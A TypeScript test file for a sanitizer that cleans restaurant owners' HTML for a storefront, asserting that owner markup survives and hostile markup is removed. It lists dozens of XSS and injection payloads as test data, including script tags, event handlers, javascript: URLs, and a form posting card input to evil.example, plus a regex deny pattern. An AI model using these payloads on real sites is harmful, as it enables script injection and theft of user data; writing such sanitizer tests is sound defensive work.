import { describe, expect, test } from 'bun:test';
import { cleanHtml, shownHtml } from './clean-html.ts';

const STORE = '/restaurants/roma/stores/newtown';
const byHand = (html: string) => cleanHtml(html, { byHand: true });
const onPage = (html: string) => shownHtml(byHand(html).html, STORE);

/** What would run, fetch, post, frame, cover or read: each is gone, from what is stored and from what is shown. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/images/a" onload="alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/api/online-ordering/restaurants/x">',
  '<img srcset="https://evil.example/a 1x" src="/images/a">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="https://evil.example"></object><embed src="//evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://good.example@evil.example">x</a>',
  '<a href="/coupons" onclick="alert(1)" style="position:fixed" target="_blank">x</a>',
  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
  '<button formaction="https://evil.example">x</button>',
  '<style>*{display:none}</style>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<div style="position:fixed;inset:0">x</div>',
  '<div class="fixed inset-0 z-50">x</div>',
  '<div id="alarm" data-part="cart-slot">x</div>',
  '<div data-island="storefront/x" data-src="//evil.example/x.js" data-props="{}"></div>',
  '<video src="//evil.example" autoplay></video><audio src=x>',
  '<p>a<!--cart--><!--kept:0-->b</p>',
  '<p title="<!--cart-->">x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<details ontoggle=alert(1) open>x</details>',
  '<x onfocus=alert(1) tabindex=1>x</x>',
  '<a ping="https://evil.example" href="/">x</a>',
];

const WRONG =
  /<(?!\/?(?:p|br|strong|em|u|s|a|ul|ol|li|blockquote|h2|h3|h4|hr|div|section|span|small|sub|sup|code|pre|dl|dt|dd|details|summary|figure|figcaption|img|table|caption|thead|tbody|tfoot|tr|th|td)\b)| on\w+=| style=| id=| data-|class="(?!own-)|javascript:|evil\.example|srcset|target=|ping=|<!--/i;

describe('HTML that would do more than be read', () => {
  test.each(HOSTILE)('%s', (html) => {
    expect(byHand(html).html).not.toMatch(WRONG);
    expect(cleanHtml(html, { byHand: false }).html).not.toMatch(WRONG);
    expect(onPage(html)).not.toMatch(WRONG);
    // What was stored without being cleaned is shown no other way.
    expect(shownHtml(html, STORE)).not.toMatch(WRONG);
  });

  test('is named to who wrote it, once for each element', () => {
    expect(byHand('<script>1</script><b>x</b><iframe></iframe><script>2</script>').removed).toEqual([
      'script',
      'iframe',
    ]);
    expect(byHand('<p><b>x</b> <i>y</i></p>').removed).toEqual([]);
  });
});

describe('HTML of an owner', () => {
  test.each([
    ['<p>We <b>bake</b> <i>daily</i></p>', '<p>We <strong>bake</strong> <em>daily</em></p>'],
    ['<h1>Our story</h1>', '<h2>Our story</h2>'],
    ['<p class="own-big big">x</p>', '<p class="own-big">x</p>'],
    ['<table><tr><th scope="row">Mon</th><td colspan="2">5–9</td></tr></table>', null],
    ['<a href="https://roma.example">x</a>', '<a href="https://roma.example" rel="noopener">x</a>'],
    ['<a href="tel:+61295550100">x</a>', null],
    ['a < b & c', 'a &lt; b &amp; c'],
    ['<p>not closed', '<p>not closed</p>'],
  ])('%s is kept', (html, kept) => expect(byHand(html).html).toBe(kept ?? html));

  test('links below the store’s own address, wherever that is', () => {
    expect(shownHtml('<a href="/coupons">x</a>', STORE)).toBe(`<a href="${STORE}/coupons">x</a>`);
    expect(shownHtml('<a href="/coupons">x</a>', '/')).toBe('<a href="/coupons">x</a>');
    expect(shownHtml('<p>href="/coupons"</p>', STORE)).toBe('<p>href="/coupons"</p>');
  });

  test('shows pictures of ours by their names, in one size', () => {
    const { html, imageIds } = byHand('<img src="/images/img_1?w=9000" alt="Oven">');
    expect(imageIds).toEqual(['img_1']);
    expect(shownHtml(html, STORE)).toBe('<img alt="Oven" src="/images/img_1?w=800" loading="lazy" />');
  });

  test('says the same when it is cleaned again', () => {
    for (const html of HOSTILE) expect(byHand(byHand(html).html).html).toBe(byHand(html).html);
  });
});
